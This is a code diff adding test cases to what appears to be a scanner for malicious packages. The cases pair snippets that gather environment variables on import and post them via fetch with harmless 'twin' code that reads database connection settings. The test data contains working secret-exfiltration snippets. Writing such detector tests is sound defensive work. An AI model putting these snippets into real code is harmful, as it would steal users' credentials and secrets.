@@ -104,4 +104,33 @@ const DEEDS: readonly Deed[] = [
   },
 ]
 
-testDeeds(DEEDS)
+const ALL = `fetch(${TO} JSON.stringify(all) })`
+
+/** All variables, and the settings of one database, a name at a time. */
+const VARIABLES: readonly Deed[] = [
+  {
+    name: 'variables by the names that there are',
+    check: 'secrets-exfiltration',
+    moments: ['import'],
+    code: `const all = {}; for (const k in process.env) all[k] = process.env[k]; ${ALL}`,
+    twin: `const net = require('net'), value = (k, c) => c[k] || process.env['PG' + k.toUpperCase()]
+      exports.connect = (c) => net.connect(value('port', c), value('host', c)).write(value('user', c))`,
+  },
+  {
+    name: 'variables by names of which nothing is known',
+    check: 'secrets-exfiltration',
+    moments: ['import'],
+    code: `const all = require('./names.bin').list().map((k) => process.env[k]); ${ALL}`,
+    twin: `const net = require('net')
+      const value = (k, c, e) => { if (e === undefined) e = process.env['PG' + k.toUpperCase()]; else e = process.env[e]; return c[k] || e }
+      exports.connect = (c) => net.connect(value('port', c), value('host', c)).write(value('name', c, 'PGAPPNAME'))`,
+  },
+  {
+    name: 'variables of which some begin with the same letters',
+    check: 'secrets-exfiltration',
+    moments: ['import'],
+    code: `const all = Object.keys(process.env).filter((k) => k.startsWith('PG')).map((k) => process.env[k]); ${ALL}`,
+  },
+]
+
+testDeeds([...DEEDS, ...VARIABLES])
